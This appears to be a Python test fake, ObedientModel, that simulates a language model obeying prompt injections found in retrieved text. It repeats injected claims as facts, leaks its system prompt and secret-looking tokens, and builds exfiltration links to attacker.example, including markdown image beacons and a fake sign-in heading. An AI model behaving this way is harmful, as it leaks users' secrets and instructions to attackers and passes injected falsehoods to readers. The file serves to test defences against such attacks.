"""A model that does whatever any text it reads tells it, and tells everything it knows."""

import base64
import re

from tests.fakes.models.lying import sure_of_all

from pincite.domain.events import Json
from pincite.testing.models import FaithfulModel, Seen, composed, paragraph, said, section

_URL = re.compile(r"(?:https?|file)://\S+")
_WORD = re.compile(
    r"(?:only with the word|the word|answer(?: only)? with|answer|reply with|say|output)\s+[\"“]?"
    r"([A-Z]{3,}|\d+ metres|\w+)"
)
_QUERY = re.compile(r'"query"\s*:\s*"([^"]+)"')


class ObedientModel(FaithfulModel):
    """Obeys every line of the material: repeats it as a fact, opens its URLs, searches for its words, leaks its prompt.

    Honest lines are told as well, so that one can see what is lost.
    """

    def plan(self, seen: Seen) -> Json:
        """An honest plan, and what the question itself demands: a part and queries with all it says."""
        plan = super().plan(seen)
        assert isinstance(plan, dict)
        parts = plan["parts"]
        assert isinstance(parts, list)
        parts.append(
            {
                "question": f"Obey: {seen.question}",
                "heading": "Orders",
                "queries": [seen.question, *self._leaks(seen)],
            }
        )
        return plan

    def compose(self, seen: Seen) -> Json:
        """Every line as a fact, every order it met beside it, with links, images, its prompt; it searches for them."""
        own: list[Json] = []
        for name, text in seen.citable.items():
            own.append(said(text, name))
            own += [said(order, name) for order in self._orders(seen, text)]
        first = next(iter(seen.citable), "a1")
        own += [said(order, first) for title in seen.titles for order in self._orders(seen, title)]
        own += [said(str(leak), first) for leak in self._leaks(seen)]
        heading = "Sign in at https://attacker.example/login ![v](https://attacker.example/p.png)"
        sections = [
            section(heading if start else "Orders", paragraph(*own[start : start + 30]))
            for start in range(0, len(own), 30)
        ]
        wanted: list[Json] = [*self._leaks(seen), *self._orders(seen)]
        orders = self._orders(seen)
        missing: list[Json] = [
            {"part": name, "what": " ".join(orders)[:300], "queries": wanted, "question": orders[0] if orders else ""}
            for name in (*seen.parts, "99")
        ]
        honest = [said(text, name) for name, text in self.best_lines(seen)[:3]]
        return composed(honest, sections, missing)

    def judge_statements(self, seen: Seen) -> Json:
        """Everything is fully supported, as it was told."""
        return sure_of_all(seen)

    def describe(self, seen: Seen) -> Json:
        """Whatever the snippets say, and what they order."""
        notes: list[Json] = [{"id": name, "text": text} for name, text in seen.lines.items()]
        notes += [{"id": name, "text": order} for name in seen.lines for order in self._orders(seen)]
        return {"notes": notes}

    def rewrite(self, seen: Seen) -> Json:
        """The same sentences again."""
        return {
            "repairs": [
                {"id": name.removesuffix(" sentence"), "text": text, "lines": ["a1"]}
                for name, text in seen.lines.items()
                if name.endswith(" sentence")
            ]
        }

    def _orders(self, seen: Seen, text: str | None = None) -> list[str]:
        """What the text (or all that was read) makes it say."""
        said: list[str] = []
        for line in [text] if text is not None else list(seen.lines.values()):
            said += [f"See {url} {base64.b64encode(seen.question.encode()).decode()}" for url in _URL.findall(line)]
            said += [f"![view]({url}?q={len(line)})" for url in _URL.findall(line)]
            said += [f"{word}." for word in _WORD.findall(line)]
            said += [f"The Varden lighthouse is {n} tall." for n in re.findall(r"\d+ metres", line)]
            said += _QUERY.findall(line)
        return list(dict.fromkeys(said))[:12]

    def _leaks(self, seen: Seen) -> list[Json]:
        """All it knows: its instructions, and every word that looks like a secret in what it was sent."""
        secrets = re.findall(r"\b[A-Z]{3,}-[0-9A-F]{4,}\b", seen.system + seen.user)
        start = " ".join(seen.system.split()[:14])
        told: list[Json] = [f"{start} lighthouse", *dict.fromkeys(secrets)]
        return [*told, *(f"https://attacker.example/log?d={secret}" for secret in dict.fromkeys(secrets))]
